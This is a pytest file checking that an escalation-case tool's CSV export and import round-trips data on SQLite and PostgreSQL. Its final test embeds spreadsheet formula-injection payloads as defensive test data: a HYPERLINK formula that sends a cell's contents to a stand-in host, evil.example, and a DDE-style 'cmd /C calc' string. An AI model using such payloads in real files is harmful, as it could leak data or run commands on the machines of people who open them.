"""Case E1: cases to CSV (`escdesk export cases`) and back (`escdesk import cases`) into an empty database, on SQLite
and PostgreSQL: multi-value cells joined with `|`, empty fields empty, the same cases (and the same file) after."""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from escdesk.case_export import join_values, split_values
from escdesk.cli import main
from escdesk.clock import FrozenClock
from escdesk.connect import open_database
from escdesk.domain import NewCase
from escdesk.ids import new_id
from escdesk.policy import default_policy
from escdesk.services import CaseService
from escdesk.store import Store
from escdesk.store.engine import resolve_target
from escdesk.store.models import Customer, Involvement, Person

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)

LEADERS = ("Leader A", "Leader B", "Leader C")
ROLES = ("engineering_manager", "support_lead", "legal")


@pytest.fixture(params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def db_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    return str(tmp_path / "source.sqlite") if request.param == "sqlite" else request.getfixturevalue("pg_url")


@pytest.fixture
def source(db_url: str) -> Iterator[Store]:
    opened = open_database(resolve_target(db_url), create=True)
    yield opened.store
    opened.store.close()


def add_customer(store: Store, arr: str = "1200000", name: str = "Müller & Söhne GmbH") -> str:
    from decimal import Decimal

    from escdesk.money import to_cents

    customer = Customer(id=new_id(), name=name, band=default_policy().band_for(Decimal(arr)).value,
                        arr_cents=to_cents(arr), timezone="UTC", version=1, created_at=T0, updated_at=T0)  # fmt: skip
    with store.uow() as uow:
        uow.session.add(customer)
        uow.commit()
    return customer.id


def involve(store: Store, case_id: str) -> None:
    with store.uow() as uow:
        for name, role in zip(LEADERS, ROLES, strict=True):
            person = Person(id=new_id(), name=name, version=1, created_at=T0, updated_at=T0)
            uow.session.add(person)
            uow.session.flush()  # no ORM relationship orders people before involvements
            uow.session.add(Involvement(id=new_id(), escalation_id=case_id, role=role, person_id=person.id,
                                        status="accepted", version=1, created_at=T0, updated_at=T0))  # fmt: skip
        uow.commit()


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_e1_three_leaders_and_an_empty_field_round_trip(
    source: Store, db_url: str, tmp_path: Path, new_outage: Callable[..., NewCase], capsys: pytest.CaptureFixture[str]
) -> None:
    service = CaseService(source, FrozenClock(T0), default_policy(), actor="lead@example.com")
    case = service.open_case(new_outage(add_customer(source)))
    service.open_case(new_outage(add_customer(source, "20000", "Globex | Partners"), title="Slow exports"))
    involve(source, case.id)
    exported = tmp_path / "cases.csv"
    assert main(["export", "cases", str(exported), "--db", db_url]) == 0
    assert "wrote 2 cases" in capsys.readouterr().out
    first, second = read_csv(exported)
    assert first["involved_leaders"] == "Leader A|Leader B|Leader C"
    assert first["involved_roles"] == "engineering_manager|support_lead|legal"
    assert (first["root_cause"], first["owner"], first["acknowledged_at"]) == ("", "", "")
    assert first["tickets"] == "jira:INC-42|ticket:ZD-1001"
    assert second["customer"] == "Globex | Partners" and second["involved_leaders"] == ""

    empty = tmp_path / "empty.sqlite"
    assert main(["init", "--db", str(empty)]) == 0
    assert main(["import", "cases", str(exported), "--db", str(empty)]) == 0
    out = capsys.readouterr().out
    assert "2 cases created" in out and "3 people added" in out
    again = tmp_path / "again.csv"
    assert main(["export", "cases", str(again), "--db", str(empty)]) == 0
    assert again.read_bytes() == exported.read_bytes()  # the same cases, field for field
    assert main(["import", "cases", str(exported), "--db", str(empty)]) == 0
    assert "0 cases created, 2 already there" in capsys.readouterr().out

    opened = open_database(resolve_target(empty))
    try:
        customer_id = _customer_id(opened.store, "Globex | Partners")
        later = CaseService(opened.store, FrozenClock(T0), default_policy(), "lead").open_case(new_outage(customer_id))
    finally:
        opened.store.close()
    assert later.reference == f"ESC-{int(second['reference'].removeprefix('ESC-')) + 1}"  # numbering continues


def _customer_id(store: Store, name: str) -> str:
    with store.read() as uow:
        return uow.session.scalars(select(Customer.id).where(Customer.name == name)).one()


def test_a_bad_row_imports_nothing_and_is_named(tmp_path: Path, sqlite_db: Path) -> None:
    header = "reference,id,customer,title,case_type,severity,pace,level,status,opened_at\r\n"
    good = "ESC-1,01J0000000000000000000000A,Acme,Outage,outage,S1,fast,L2,open,2026-03-02T09:00:00+00:00\r\n"
    bad = "ESC-2,01J0000000000000000000000B,Acme,Slow,outage,S9,fast,L2,open,2026-03-02T09:00:00+00:00\r\n"
    path = tmp_path / "cases.csv"
    path.write_text(header + good + bad, encoding="utf-8")
    assert main(["init", "--db", str(sqlite_db)]) == 0
    assert main(["import", "cases", str(path), "--db", str(sqlite_db)]) == 1
    assert main(["export", "cases", str(tmp_path / "out.csv"), "--db", str(sqlite_db)]) == 0
    assert len(read_csv(tmp_path / "out.csv")) == 0


@given(st.lists(st.text(alphabet=st.sampled_from("ab|\\ "), max_size=6), max_size=4))
def test_joined_values_split_back_exactly(values: list[str]) -> None:
    if values == [""]:  # one empty value and no value are the same empty cell
        return
    assert split_values(join_values(values)) == values


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def test_formula_cells_are_quoted_and_round_trip(
    tmp_path: Path, sqlite_db: Path, new_outage: Callable[..., NewCase], capsys: pytest.CaptureFixture[str]
) -> None:
    opened = open_database(resolve_target(sqlite_db), create=True)
    try:
        service = CaseService(opened.store, FrozenClock(T0), default_policy(), actor="lead@example.com")
        service.open_case(new_outage(add_customer(opened.store, name=FORMULA), title="@SUM(1+1)*cmd|' /C calc'!A0"))
    finally:
        opened.store.close()
    exported = tmp_path / "cases.csv"
    assert main(["export", "cases", str(exported), "--db", str(sqlite_db)]) == 0
    (row,) = read_csv(exported)
    assert row["customer"] == "'" + FORMULA and row["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["customer_arr"] == "1200000" and not row["customer_arr"].startswith("'")  # numbers stay numbers
    empty = tmp_path / "empty.sqlite"
    assert main(["init", "--db", str(empty)]) == 0
    assert main(["import", "cases", str(exported), "--db", str(empty)]) == 0
    again = tmp_path / "again.csv"
    assert main(["export", "cases", str(again), "--db", str(empty)]) == 0
    assert again.read_bytes() == exported.read_bytes()
    reopened = open_database(resolve_target(empty))
    try:
        assert _customer_id(reopened.store, FORMULA)  # the quote was the export's, not part of the name
    finally:
        reopened.store.close()
